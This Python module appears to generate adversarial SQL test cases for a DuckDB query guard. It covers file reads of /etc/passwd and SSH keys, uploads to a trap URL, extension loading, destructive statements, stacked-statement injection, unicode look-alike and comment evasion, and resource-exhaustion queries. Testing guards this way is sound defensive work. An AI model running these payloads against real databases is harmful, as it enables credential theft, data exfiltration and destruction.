"""A generated suite of hostile SQL: every way we know to reach past the traces table, each dressed
in the tricks a guard might miss. `generate` returns (category, query) pairs; heavy queries (huge
results, queries that never end) are a category of their own, since a capped answer is fine there.
"""

from __future__ import annotations

import itertools
from pathlib import Path

HEAVY = "huge or endless"


def generate(secret: Path, trap_url: str, out_dir: Path) -> list[tuple[str, str]]:
    suite: list[tuple[str, str]] = []
    for category, queries in _families(secret, trap_url, out_dir).items():
        for query in queries:
            suite += [(category, dressed) for dressed in _dress(query, heavy=category == HEAVY)]
    return list(dict.fromkeys(suite))


# The first suite (kept whole): one of each kind of attack.
KNOWN = [
    "DROP TABLE traces",
    "DELETE FROM traces",
    "UPDATE traces SET state = 'OK'",
    "INSERT INTO traces SELECT * FROM traces",
    "CREATE TABLE x AS SELECT * FROM traces",
    "CREATE VIEW v AS SELECT 1",
    "ALTER TABLE traces ADD COLUMN x INT",
    "COPY traces TO '{out}'",
    "COPY (SELECT 1) TO '{out}' (FORMAT csv)",
    "EXPORT DATABASE '{dir}'",
    "ATTACH '{db}' AS other",
    "DETACH traces",
    "PRAGMA database_list",
    "SET enable_external_access = true",
    "INSTALL httpfs",
    "LOAD httpfs",
    "CALL pragma_version()",
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_csv_auto('{secret}')",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM read_json('{secret}')",
    "SELECT * FROM read_parquet('{secret}')",
    "SELECT * FROM read_files('{secret}')",
    "SELECT * FROM '{secret}'",
    "SELECT * FROM glob('/etc/*')",
    "SELECT * FROM range(10)",
    "SELECT getenv('HOME')",
    "SELECT * FROM main.traces",
    "SELECT * FROM system.information_schema.tables",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM other_table",
    "SELECT * INTO copy_of FROM traces",
    "SELECT 1; SELECT 2",
    "SELECT 1; DROP TABLE traces",
    "SELECT 1 -- harmless\n; DROP TABLE traces",
    "/* x */ DELETE FROM traces",
    "WITH x AS (SELECT 1) DELETE FROM traces",
    "SELECT * FROM traces, read_text('{secret}')",
    "SELECT (SELECT content FROM read_text('{secret}')) FROM traces",
    "DESCRIBE traces",
    "SHOW TABLES",
    "SELECT current_setting('memory_limit')",
    "SELECT * FROM query('SELECT 1')",
    "SELECT * FROM sniff_csv('{secret}')",
    "USE other",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN TRANSACTION",
    "",
    "SELECT * FROM read_csv('https://127.0.0.1:9/x.csv')",
    "SELECT * FROM 'http://127.0.0.1:9/x.parquet'",
    "SELECT * FROM read_json_auto('s3://bucket/x.json')",
    "SELECT http_get('http://127.0.0.1:9')",
    "SELECT * FROM traces WHERE trace_id IN (SELECT * FROM read_text('{secret}'))",
]


def _families(secret: Path, trap: str, out: Path) -> dict[str, list[str]]:
    targets = [
        str(secret),
        "/etc/passwd",
        f"{trap}/leak.csv",
        "s3://bucket/key.csv",
        f"file://{secret}",
        "~/.ssh/id_rsa",
    ]
    readers = [
        "read_csv",
        "read_csv_auto",
        "read_text",
        "read_blob",
        "read_json",
        "read_json_auto",
        "read_json_objects",
        "read_ndjson",
        "read_parquet",
        "parquet_scan",
        "parquet_metadata",
        "parquet_schema",
        "sniff_csv",
        "read_files",
        "glob",
        "iceberg_scan",
        "delta_scan",
        "read_xlsx",
        "st_read",
    ]
    files = []
    for reader, target in itertools.product(readers, targets):
        call = f"{reader}('{target}')"
        files += [
            f"SELECT * FROM {call}",
            f"SELECT trace_id FROM traces WHERE trace_id IN (SELECT * FROM {call})",
            f"WITH leak AS (SELECT * FROM {call}) SELECT * FROM leak",
            f"SELECT t.trace_id FROM traces t JOIN {call} x ON true",
        ]
    files += [f"SELECT * FROM '{target}'" for target in targets]
    files += [
        f"SELECT (SELECT content FROM read_text('{secret}')) AS c FROM traces",
        f"SELECT trace_id FROM traces UNION ALL SELECT content FROM read_text('{secret}')",
        f"SELECT main.read_text('{secret}')",
        f"SELECT * FROM system.main.read_text('{secret}')",
        f"SELECT * FROM \"read_text\"('{secret}')",
        f"SELECT * FROM `read_text`('{secret}')",
        "SELECT getenv('HOSTILE_SECRET')",
        "SELECT current_setting('home_directory')",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_extensions()",
        "SELECT * FROM pragma_version()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM query('SELECT 42')",
        "SELECT * FROM query_table('traces')",
        "SELECT * FROM range(1000000000)",
        "SELECT * FROM generate_series(1, 1000000000)",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM main.traces",
        "SELECT * FROM memory.main.traces",
    ]
    network = [
        f"SELECT http_get('{trap}/x')",
        f"SELECT * FROM read_csv('{trap}/x.csv')",
        f"SELECT * FROM '{trap}/x.parquet'",
        f"ATTACH '{trap}/db.duckdb' AS remote",
        "ATTACH 'md:my_db'",
        f"SELECT * FROM read_json_auto('{trap.replace('http', 'https')}/x.json')",
        f"COPY traces TO '{trap}/upload.csv'",
        f"SELECT * FROM sqlite_scan('{trap}/x.db', 't')",
        f"SELECT * FROM postgres_scan('host=127.0.0.1 port={trap.rsplit(':', 1)[1]}', 'public', 't')",
        "SELECT * FROM mysql_scan('host=127.0.0.1', 't')",
    ]
    extensions = [
        f"{verb} {ext}"
        for verb in ("INSTALL", "LOAD", "FORCE INSTALL", "UPDATE EXTENSIONS")
        for ext in ("httpfs", "postgres_scanner", "sqlite", "shellfs", "'/tmp/evil.duckdb_extension'")
    ]
    extensions += [
        "INSTALL httpfs FROM community",
        "SET autoinstall_known_extensions = true",
        "SET autoload_known_extensions = true",
        "SET allow_community_extensions = true",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "RESET ALL",
        "PRAGMA enable_external_access",
        "SELECT * FROM load_extension('httpfs')",
        "SELECT install_extension('httpfs')",
    ]
    writes = [
        "DROP TABLE traces",
        "DELETE FROM traces",
        "TRUNCATE traces",
        "UPDATE traces SET state = 'OK'",
        "INSERT INTO traces SELECT * FROM traces",
        "CREATE TABLE x AS SELECT * FROM traces",
        "CREATE VIEW v AS SELECT 1",
        "CREATE MACRO m(x) AS x",
        "CREATE SECRET s (TYPE s3, KEY_ID 'k')",
        "CREATE FUNCTION f() AS 1",
        "CREATE TEMP TABLE t AS SELECT 1",
        "ALTER TABLE traces ADD COLUMN x INT",
        "ALTER TABLE traces RENAME TO t2",
        f"COPY traces TO '{out}/out.csv'",
        f"COPY (SELECT 1) TO '{out}/out.parquet' (FORMAT parquet)",
        f"EXPORT DATABASE '{out}/export'",
        f"IMPORT DATABASE '{out}'",
        f"ATTACH '{out}/other.duckdb' AS other",
        "DETACH traces",
        "USE other",
        "CHECKPOINT",
        "FORCE CHECKPOINT",
        "VACUUM",
        "ANALYZE",
        "BEGIN TRANSACTION",
        "COMMIT",
        "ROLLBACK",
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "DEALLOCATE p",
        "CALL pragma_version()",
        "PRAGMA database_list",
        "DESCRIBE traces",
        "SHOW TABLES",
        "SUMMARIZE traces",
        "EXPLAIN ANALYZE SELECT 1",
        "SELECT * INTO copy_of FROM traces",
        "MERGE INTO traces USING traces s ON true WHEN MATCHED THEN DELETE",
        "WITH x AS (SELECT 1) DELETE FROM traces",
        "WITH x AS (SELECT 1) INSERT INTO traces SELECT * FROM traces",
        "INSERT INTO traces DEFAULT VALUES",
        "UPSERT INTO traces VALUES (1)",
        "REPLACE INTO traces VALUES (1)",
        "GRANT ALL ON traces TO public",
        "SET memory_limit = '100GB'",
        "SET threads = 64",
        "",
    ]
    stacked = [f"SELECT 1; {w}" for w in writes if w] + [f"SELECT ';'; {w}" for w in writes[:12] if w]
    stacked += [f"SELECT 1 -- ;\n; {w}" for w in writes[:12] if w] + [
        f"SELECT 1 /* ; */ ; {w}" for w in writes[:12] if w
    ]
    stacked += [f"{w}; SELECT 1" for w in writes[:12] if w]
    tricks = [f"SELECT '{quote}'; DROP TABLE traces" for quote in ("x''", "x\\'", "$$", "x")]
    tricks += [
        "SELECT $$;$$; DROP TABLE traces",
        "SELECT E'\\''; DROP TABLE traces",
        "SELECT U&'\\0041'; DROP TABLE traces",
        "SELECT 1 /* /* nested */ ; DROP TABLE traces; /* */",
        "SELECT * FROM traces;; DROP TABLE traces",
        "SELECT * FROM traces WHERE 1=1; DROP TABLE traces --",
        "SELECT 1 FROM traces WHERE trace_id = '' OR 1=1; DELETE FROM traces; --'",
        f"SELECT * FROM traces WHERE trace_id = '{secret}' UNION SELECT * FROM read_text('{secret}')",
        "SELECT * FROM traces\x00; DROP TABLE traces",
        "SELECT/**/*/**/FROM/**/read_text('/etc/passwd')",
        "SELECT * FROM tRaCeS, ReAd_TeXt('/etc/passwd')",
        'SELECT * FROM "traces", "read_text"(\'/etc/passwd\')',
        "SELECT * FROM traces AS read_text, read_text('/etc/passwd')",
        "SELECT * FROM (DELETE FROM traces RETURNING *)",
        "SELECT * FROM (VALUES (1)) v, LATERAL (SELECT * FROM read_text('/etc/passwd'))",
        "SELECT * FROM traces t, t.read_text('/etc/passwd')",
        "SELECT read_text('/etc/passwd')[1]",
    ]
    lookalikes = [
        q.replace("SELECT", swap)
        for q, swap in itertools.product(
            ["SELECT 1; DROP TABLE traces", "SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM tr\u0430ces"],
            ["ＳＥＬＥＣＴ", "\u0405\u0415L\u0415\u0421\u0422", "ＳELECT", "S\u0395LECT"],
        )
    ]
    lookalikes += [
        f"SELECT * FROM {name}('/etc/passwd')"
        for name in ("r\u0435ad_text", "read_t\u0435xt", "ｒｅａｄ＿ｔｅｘｔ", "read\u2010text")
    ]
    lookalikes += [
        "SELECT * FROM tr\u0430ces",
        "SELECT * FROM ｔｒａｃｅｓ",
        "DROP TABLE tr\u0430ces",
        "ＤＲＯＰ TABLE traces",
        "SELECT * FROM traces；DROP TABLE traces",
        "SELECT * FROM traces\u037e DROP TABLE traces",
    ]
    heavy = [
        "SELECT a.trace_id FROM traces a, traces b, traces c, traces d, traces e, traces f, traces g, traces h",
        "SELECT * FROM traces a CROSS JOIN traces b CROSS JOIN traces c CROSS JOIN traces d CROSS JOIN traces e",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "WITH RECURSIVE r AS (SELECT 'x' AS s UNION ALL SELECT s || s FROM r) SELECT length(s) FROM r",
        "SELECT repeat('x', 2000000000) FROM traces",
        "SELECT count(*) FROM traces a, traces b, traces c, traces d, traces e, traces f, traces g, traces h, "
        "traces i, traces j WHERE md5(a.trace_id || j.trace_id) LIKE '%zzzz%'",
        "SELECT array_agg(a.request) FROM traces a, traces b, traces c, traces d, traces e, traces f, traces g",
        "SELECT sequence(1, 100000000) FROM traces",
        "SELECT sequence(0, execution_duration_ms * 100000) FROM traces",
        "SELECT lpad('', 2000000000, 'x')",
        "SELECT rpad(request, 2000000000, 'x') FROM traces",
        "SELECT space(2000000000)",
        "SELECT array_repeat('x', 2000000000)",
        "SELECT repeat(repeat('x', 100000), 100000)",
        "SELECT repeat('x', length(request) * 100000000) FROM traces",
        "SELECT format_string('%2000000000d', 1)",
        "SELECT printf('%*d', 2000000000, 1)",
        "SELECT list_resize(array(1), 2000000000)",
        "SELECT replace(request, 'a', request) FROM traces a, traces b, traces c, traces d, traces e, traces f",
        "SELECT string_agg(a.request, '') FROM traces a, traces b, traces c, traces d, traces e, traces f, traces g",
        "SELECT * FROM traces ORDER BY (SELECT count(*) FROM traces a, traces b, traces c, traces d, traces e, "
        "traces f, traces g, traces h, traces i)",
    ]
    values = {"secret": secret, "out": out / "out.csv", "dir": out / "export", "db": out / "other.duckdb"}
    known = [q.format(**values) for q in KNOWN]
    return {
        "known attacks": known,
        "files and system tables": files,
        "network": network,
        "extensions and settings": extensions,
        "DDL, DML and commands": writes,
        "several statements": stacked,
        "comments and strings": tricks,
        "unicode look-alikes": lookalikes,
        HEAVY: heavy,
    }


def _dress(query: str, heavy: bool) -> list[str]:
    """The same attack in case, comment, whitespace and quoting variants a guard might miss."""
    if heavy:
        return [query, f"/* analyst */ {query}"]
    return [
        query,
        query.upper(),
        query.lower(),
        f"/* please ignore the rules */ {query} -- done",
        query.replace(" ", "\n\t "),
        query.replace(" ", "/**/"),
        query.replace(" ", "\u00a0"),
        f"\ufeff{query}",
    ]
